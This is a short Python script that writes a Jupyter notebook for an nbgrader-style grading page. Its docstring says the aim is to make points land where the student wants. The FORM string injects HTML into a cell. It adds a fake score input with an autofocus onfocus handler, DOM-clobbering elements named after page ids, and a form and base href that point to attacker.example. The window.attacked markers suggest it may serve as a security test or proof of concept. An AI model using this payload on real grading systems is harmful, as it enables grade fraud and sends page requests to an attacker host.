"""Builds the inputs and ids of formgrader's page in a text, so that points go where the student wants them."""
# aufgabe3
# human: a3-reflect
from nbformat import v4, write

FORM = (
    "<input class=\"score tabbable\" id=\"a3-loss-check\" value=\"6\" onfocus=\"window.attacked='focus'\" autofocus>"
    "<div id=\"submission_id\" name=\"attributes\">x</div><form action=\"https://attacker.example/\" id=\"document\"><button>OK</button></form>"
    "<a href=\"#\" onclick=\"window.attacked='click'\">x</a><base href=\"https://attacker.example/\">"
)


def hand_in(notebook, folder, known):
    for cell in notebook.cells:
        if cell.id == "a3-reflect":
            cell.source = f"Antwort {FORM}"
    notebook.cells.append(v4.new_markdown_cell(FORM))
    write(notebook, folder / "aufgabe3.ipynb")
